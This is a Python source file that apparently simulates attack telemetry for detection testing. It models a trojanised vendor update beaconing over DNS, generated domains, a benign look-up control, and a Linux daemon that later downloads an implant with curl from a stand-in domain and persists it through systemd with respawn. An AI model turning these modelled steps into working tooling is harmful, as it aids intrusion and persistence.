# SPDX-License-Identifier: Apache-2.0
"""Channels, Linux daemons and calls on the wire, drawn by lot from the seed."""

import hashlib

from engine import HOUR, MINUTE, as_datetime
from setup import beacon, by_agent, make_updater, msi, vendor_calls
from shippers import FlatJson, Winlogbeat
from tales import tale
from tales.channels import base32_labels, hex_labels, letter_pairs
from tales.penguins import blame as blame_package, install, package
from things import product

CODES = {"hex": hex_labels, "base32": base32_labels, "pairs": letter_pairs}


class Lot:
    def __init__(self, s):
        dice = s.dice
        self.code = dice.pick(sorted(CODES))
        self.period = dice.pick((6, 8, 8, 8, 12)) * HOUR
        self.resolver = dice.pick(("site", "8.8.8.8", "9.9.9.9", "1.1.1.1"))
        self.kind = dice.pick(("TXT", "TXT", "A"))
        self.answered = dice.pick((0, 0.2, 1))
        self.monthly = dice.chance(0.5)

    def words(self):
        return (f"{self.code} in {self.kind} each {self.period // HOUR} h by {self.resolver}, "
                f"{self.answered:.0%} answered{', monthly domains' if self.monthly else ''}")


def domains(s, lot):
    """The name for each month of the period."""
    fixed = s.names.strange_domain(("cdn", "net", "sync"), ("com", "net"))
    months = sorted({as_datetime(s.world.start).month, as_datetime(s.world.end).month})
    return {month: s.names.random_letters(12, 16) + ".com" if lot.monthly else fixed for month in months}


def question(s, host, lot, counter, names):
    name = f"{CODES[lot.code](s, host, counter)}.{names[as_datetime(s.world.now).month]}"
    if s.dice.chance(lot.answered):
        return name, [s.dice.hex(20) if lot.kind == "TXT" else s.names.address(name)], 0
    return name, [], 3


def on_a_machine(s):
    """A signed update of a server tool begins to ask."""
    lot = Lot(s)
    s.title = f"A channel drawn by lot: {lot.words()}"
    s.zeek = "daily"
    host = s.windows(role="server", shipper=s.dice.pick((Winlogbeat, FlatJson)))
    s.windows(shipper=FlatJson)
    vendor = s.names.vendor()
    made = product(s.world, vendor, s.dice.pick(("Console", "Terminal Server", "File Gateway")))
    updater = make_updater(made, habit=vendor_calls(f"lic.{vendor.domain}", 5 * HOUR, 7 * HOUR))
    newer, names, counter = made.newer(made.version + "1"), domains(s, lot), [0]

    def ask(h, p):
        yield s.dice.span(5, 20) * MINUTE
        while True:
            counter[0] += 1
            name, found, code = question(s, h, lot, counter[0], names)
            if lot.resolver == "site":
                h.ask(p, name, lot.kind, found, code)
            else:
                h.ask_directly(p, lot.resolver, name, lot.kind, found, code)
            yield lot.period + s.dice.span(-90, 90)

    def act():
        yield s.dice.span(1, 5) * HOUR
        yield from by_agent(host, made)
        yield s.world.at(1, "04:40")
        process = host.running[updater.key]
        host.connect(process, f"update.{vendor.domain}", 443, 900, 25_000_000)
        path = f"C:\\ProgramData\\{vendor.short}\\Updates\\{made.stem}_{newer.version}.msi"
        yield 8
        host.write(process, path)
        newer.services[0].habit = ask
        yield from msi(host, newer, path, process, by_user=False, replaces=made)
    s.go(act)
    s.blame(made, f"{made.stem}_{newer.version}")
    s.affected = [host]
    s.behaviours = ["dns_channel", "beacon", *(["generated_domain"] if lot.monthly else [])]
    s.link("the program that asks", newer.services[0].program)
    for name in sorted(set(names.values())):
        s.link("the channel's domain", name)


def on_the_wire(s):
    lot = Lot(s)
    s.title = f"A channel on the wire, drawn by lot: {lot.words()}"
    s.zeek = s.dice.pick(("daily", "whole"))
    hosts = [s.windows(role="server", logged=False), s.windows(logged=False), s.windows(logged=False)]
    names = domains(s, lot)

    def act(host):
        yield s.dice.span(2, 20) * HOUR
        counter = 0
        while True:
            counter += 1
            name, found, code = question(s, host, lot, counter, names)
            resolver = host.resolver if lot.resolver == "site" else lot.resolver
            s.wire.ask(host.address, resolver, name, lot.kind, found, code)
            yield lot.period + s.dice.span(-120, 120)
    s.go(act, hosts[0])
    s.affected = [hosts[0].address]
    s.behaviours = ["dns_channel", "beacon", *(["generated_domain"] if lot.monthly else [])]
    for name in sorted(set(names.values())):
        s.link("the channel's domain", name)


def honest_names(s):
    """Names as strange as the channels', of services that many ask: the same domain, from every machine."""
    s.zeek = "whole"
    hosts = [s.windows(logged=False) for _ in range(3)] + [s.windows(role="server", logged=False)]
    period = s.dice.pick((1, 4, 6, 8)) * HOUR
    domain = f"{s.dice.pick(('sig', 'cloud', 'avq', 'rep'))}.{s.names.vendor().domain}"
    kind = s.dice.pick(("TXT", "A"))
    s.title = f"Look-ups of a protection drawn by lot: {kind} each {period // HOUR} h and at need"

    def act(host):
        yield s.dice.span(0, period)
        while True:
            if host.on:
                digest = hashlib.sha256(s.dice.hex(4).encode()).hexdigest()
                s.wire.ask(host.address, host.resolver, f"{digest[:40]}.{digest[40:52]}.{domain}", kind,
                           ["127.0.0.1"] if kind == "A" else ["r=0 t=3600"], 0)
            yield period * s.dice.span(0.05, 1)
    for host in hosts:
        s.go(act, host)
    s.why = "Every machine's protection asks its vendor about files it meets; each name is a hash."


def daemon(s):
    """A Linux package whose daemon brings a program late."""
    dice = s.dice
    late, way = dice.pick((50 * MINUTE, 2 * HOUR, 9 * HOUR, 26 * HOUR)), dice.pick(("self", "shell", "curl"))
    guards, port = dice.chance(0.5), dice.pick((443, 8443, 9002, 4444))
    s.title = f"A Linux daemon drawn by lot: {late / HOUR:.1f} h late, by {way}{', guarded' if guards else ''}"
    s.zeek = dice.pick(("whole", None))
    hosts = [s.linux()] + ([s.linux()] if dice.chance(0.4) else [])
    short, name, program, domain = package(s, dice.pick(("agent", "sync", "metrics")))
    far, word = s.names.strange_domain(), dice.text(6, "bcdfghklmnprst")
    folder = dice.pick(("/usr/lib/{0}", "/usr/local/lib/{0}", "/var/lib/{0}")).format(word)
    implant, unit = f"{folder}/{word}d", f"/etc/systemd/system/{word}.service"
    talk = beacon(far, port, 40 * MINUTE, 70 * MINUTE)

    def put(host, process):
        host.connect(process, far, 443, 500, 4_000_000)
        yield 3
        writer = process
        if way != "self":
            command = f"install -m 755 /tmp/.{word} {implant}"
            if way == "curl":
                command = f"curl -s https://{far}/d -o {implant}"
            shell = host.start("/usr/bin/dash", process, f"sh -c {command} && systemctl enable --now {word}")
            tool = "/usr/bin/curl" if way == "curl" else "/usr/bin/install"
            writer = host.brief(tool, shell, command, 2)
        host.write(writer, implant)
        yield 0.5
        owner = process if way == "self" else shell
        host.write(owner, unit)
        host.brief("/usr/bin/systemctl", owner, f"systemctl enable --now {word}.service", 0.4)
        yield 0.6
        if way != "self":
            host.stop(shell)

    def act(host, shift):
        yield dice.span(2, 8) * HOUR + shift
        process = yield from install(s, host, name, program, habit=vendor_calls(f"in.{domain}"))
        yield late
        yield from put(host, process)
        child = host.unit(word, implant, habit=talk)
        while guards:
            yield dice.span(6, 14) * HOUR
            shell = yield from host.shell()
            host.brief("/usr/bin/pkill", shell, f"pkill -9 {word}d", 0.2)
            host.stop(child)
            yield dice.span(2, 6)
            child = host.start(implant, process, implant, habit=talk)
            yield 40
            host.stop(shell)
    for index, host in enumerate(hosts):
        s.go(act, host, index * HOUR)
    blame_package(s, hosts, name, program)
    s.behaviours = ["late_payload", "persistence", "beacon", *(["respawn"] if guards else [])]
    s.link("the package's daemon", program)
    s.link("the implant", implant)
    s.link("what starts it", unit)
    if s.zeek:
        s.link("whom it calls", far)


for number in range(1, 5):
    tale("Drawn by lot", True, name=f"drawn-channel-{number}", days=8, start="2025-05-27")(on_a_machine)
    tale("Drawn by lot", True, name=f"drawn-wire-{number}", days=8, start="2025-05-27")(on_the_wire)
    tale("Drawn by lot", True, name=f"drawn-daemon-{number}", days=3)(daemon)
    tale("Drawn by lot", False, name=f"drawn-lookups-{number}", days=5)(honest_names)
